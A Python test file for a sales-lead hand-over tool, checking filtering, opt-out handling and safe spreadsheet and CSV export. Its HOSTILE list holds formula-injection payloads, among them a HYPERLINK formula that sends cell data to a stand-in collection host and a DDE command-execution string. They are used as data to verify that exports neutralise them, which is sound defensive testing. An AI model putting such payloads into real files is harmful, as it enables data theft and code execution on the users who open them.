"""The leads above the line as files: who is in them, and that nothing in them runs."""

from __future__ import annotations

import csv
import io
import zipfile

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

import workbench as wb
from workbench.errors import WorkbenchError

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://collect.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "http://collect.example/",
    "mailto:someone@collect.example",
    "<script>alert(1)</script>",
    "0012",
    "1e5",
    "TRUE",
    "_x000D_",
    "'=1+1",
    "Zoë 😀 山田",
    'a "quoted", comma; and\nline',
]


def leads(**columns: object) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "hs_object_id": ["11", "12", "13", "14", "15"],
            "firstname": ["Ada", "Ben", "Cleo", "Dag", "Eva"],
            "score": [10.0, 50.0, float("nan"), 90.0, 50.0],
            "hs_email_optout": pd.array([True, True, False, False, None], dtype="boolean"),
        }
    ).assign(**columns)


def cells(book: bytes) -> list[list[object]]:
    found: list[list[object]] = CalamineWorkbook.from_filelike(io.BytesIO(book)).get_sheet_by_index(0).to_python()
    return found


def sheet(book: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml").decode()


def rows_of(file: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(file.decode("utf-8"), newline="")))


def test_the_leads_at_or_above_the_line_are_handed_over_the_highest_first() -> None:
    given_to_sales = wb.handover(leads(), threshold=50, include_opted_out=True)
    assert given_to_sales.rows["hs_object_id"].tolist() == ["14", "12", "15"]
    assert given_to_sales.rows["score"].tolist() == [90, 50, 50]
    assert given_to_sales.headline() == "3 leads from 50 points on; 1 of them opted out of e-mail."


def test_who_opted_out_is_left_out_unless_asked_for_and_that_is_said() -> None:
    given_to_sales = wb.handover(leads(), threshold=50)
    assert given_to_sales.rows["hs_object_id"].tolist() == ["14", "15"]
    assert (given_to_sales.n_opted_out, given_to_sales.left_out) == (1, True)
    assert given_to_sales.headline() == "2 leads from 50 points on; 1 more lead opted out and is left out."
    assert (
        wb.handover(leads(), threshold=10).headline()
        == "2 leads from 10 points on; 2 more leads opted out and are left out."
    )


def test_where_nobody_opted_out_that_is_said_too() -> None:
    assert wb.handover(leads(), threshold=90).headline() == "1 lead from 90 points on; none of them has opted out."
    without = leads().drop(columns="hs_email_optout")
    assert wb.handover(without, threshold=50).rows["hs_object_id"].tolist() == ["14", "12", "15"]


def test_who_was_won_already_is_left_out_and_that_is_said() -> None:
    contacts = leads(won=["no", "no", "yes", "yes", None])
    given_to_sales = wb.handover(contacts, threshold=50, outcome="won", include_opted_out=True)
    assert given_to_sales.rows["hs_object_id"].tolist() == ["12", "15"]
    assert given_to_sales.n_won == 1
    assert given_to_sales.headline() == (
        "2 leads from 50 points on, without 1 that was won already; 1 of them opted out of e-mail."
    )


def test_a_late_win_is_a_win_when_leads_are_handed_over() -> None:
    created = pd.Timestamp("2026-01-01")
    contacts = leads(createdate=created, bought=[pd.NaT, pd.NaT, pd.NaT, created + pd.Timedelta(days=200), pd.NaT])
    soon = wb.Outcome(when="is_known(bought)", at="bought", within_days=30)
    assert wb.handover(contacts, threshold=90, outcome=soon).rows.empty


def test_values_of_options_are_written_as_people_know_them() -> None:
    rows = cells(wb.handover(leads(hs_analytics_source="DIRECT_TRAFFIC"), threshold=90).spreadsheet())
    assert rows == [
        ["Record ID", "First Name", "Original Traffic Source", "Score"],
        ["14", "Dag", "Direct Traffic", 90],
    ]


def test_a_blank_score_is_never_above_the_line() -> None:
    assert "13" not in wb.handover(leads(), threshold=-1000, include_opted_out=True).rows["hs_object_id"].tolist()


@pytest.mark.parametrize("missing", ["hs_object_id", "score"])
def test_a_table_without_id_or_score_is_refused(missing: str) -> None:
    kept = [name for name in leads() if name != missing]
    with pytest.raises(WorkbenchError) as refused:
        wb.handover(leads()[kept], threshold=50)
    assert str(refused.value) == (
        f"a hand-over needs the column {missing!r}; the table has {', '.join(map(repr, kept))}. "
        "Load the export with a mapping that names it."
    )


def test_a_spreadsheet_holds_what_people_need_and_no_more() -> None:
    contacts = leads(email=["a@a.example"] * 5, secret=["never"] * 5, createdate=pd.Timestamp("2026-05-04 13:05"))
    head, *rows = cells(wb.handover(contacts, threshold=90).spreadsheet())
    assert head == ["Record ID", "First Name", "Email", "Create Date", "Score"]
    assert rows == [["14", "Dag", "a@a.example", pd.Timestamp("2026-05-04 13:05"), 90.0]]


def test_what_strangers_typed_comes_back_as_text_and_no_cell_is_a_formula_or_a_link() -> None:
    contacts = pd.DataFrame({"hs_object_id": HOSTILE, "firstname": HOSTILE, "email": HOSTILE, "score": 1.0})
    book = wb.handover(contacts, threshold=0).spreadsheet()
    assert [row[:3] for row in cells(book)[1:]] == [[text] * 3 for text in HOSTILE]
    assert "<f>" not in sheet(book)
    assert "hyperlink" not in sheet(book).lower()
    assert not any("externalLink" in name or "vba" in name for name in zipfile.ZipFile(io.BytesIO(book)).namelist())


@settings(max_examples=30, deadline=None)
@given(st.lists(st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Cn"]), min_size=1), min_size=1))
def test_any_text_comes_back_from_the_spreadsheet(texts: list[str]) -> None:
    contacts = pd.DataFrame({"hs_object_id": [str(n) for n in range(len(texts))], "firstname": texts, "score": 1.0})
    book = wb.handover(contacts, threshold=0).spreadsheet()
    assert [row[1] for row in cells(book)[1:]] == texts
    assert "<f>" not in sheet(book)


def test_the_file_to_import_holds_record_id_score_and_label_and_nothing_else() -> None:
    contacts = leads(firstname=HOSTILE[:5], email="=1+1")
    file = wb.handover(contacts, threshold=50, score_name="Sales readiness").import_file()
    assert rows_of(file) == [
        ["Record ID", "Sales readiness", "Label"],
        ["14", "90.0", "From 50 points"],
        ["15", "50.0", "From 50 points"],
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_a_record_id_that_a_spreadsheet_program_could_run_is_refused(start: str) -> None:
    strange = f"{start}1+1"
    contacts = leads(hs_object_id=["11", "12", "13", "14", strange])
    given_to_sales = wb.handover(contacts, threshold=50)
    with pytest.raises(WorkbenchError) as refused:
        given_to_sales.import_file()
    assert str(refused.value) == (
        f"1 record id could be taken for a formula ({strange!r}); "
        "correct the export's id column before importing a file made from it."
    )


def test_a_name_of_a_score_that_a_spreadsheet_program_could_run_is_refused() -> None:
    given_to_sales = wb.handover(leads(), threshold=50, score_name="=1+1")
    with pytest.raises(WorkbenchError) as refused:
        given_to_sales.import_file()
    assert str(refused.value) == (
        "the score's name '=1+1' could be taken for a formula; rename the score before importing a file made from it."
    )


@settings(max_examples=40, deadline=None)
@given(st.lists(st.tuples(st.one_of(st.none(), st.integers(-5, 5)), st.sampled_from([True, False, None]))), st.data())
def test_every_lead_above_the_line_is_handed_over_or_left_out(
    found: list[tuple[int | None, bool | None]], data: st.DataObject
) -> None:
    line = data.draw(st.integers(-6, 6))
    contacts = pd.DataFrame(
        {
            "hs_object_id": [str(n) for n in range(len(found))],
            "score": pd.Series([score for score, _ in found], dtype="float64"),
            "hs_email_optout": pd.array([out for _, out in found], dtype="boolean"),
        }
    )
    above = {str(n) for n, (score, _) in enumerate(found) if score is not None and score >= line}
    out = {str(n) for n, (_, opted_out) in enumerate(found) if opted_out} & above
    left_out = wb.handover(contacts, threshold=line)
    assert set(left_out.rows["hs_object_id"]) == above - out
    assert left_out.n_opted_out == len(out)
    assert set(wb.handover(contacts, threshold=line, include_opted_out=True).rows["hs_object_id"]) == above
    assert left_out.rows["score"].is_monotonic_decreasing


def test_a_table_without_a_lead_above_the_line_gives_files_with_a_head_only() -> None:
    nobody = wb.handover(leads(), threshold=1000)
    assert nobody.headline() == "0 leads from 1,000 points on; none of them has opted out."
    assert cells(nobody.spreadsheet()) == [["Record ID", "First Name", "Score"]]
    assert rows_of(nobody.import_file()) == [["Record ID", "score", "Label"]]


def test_more_leads_than_a_spreadsheet_holds_are_refused() -> None:
    many = 1_048_576
    contacts = pd.DataFrame({"hs_object_id": pd.Series(["1"], dtype="str").repeat(many), "score": 1.0})
    with pytest.raises(WorkbenchError) as refused:
        wb.handover(contacts, threshold=1).spreadsheet()
    assert str(refused.value) == (
        "a spreadsheet holds 1,048,575 rows, but 1,048,576 leads are above the line; take the file for import, "
        "or a higher line."
    )
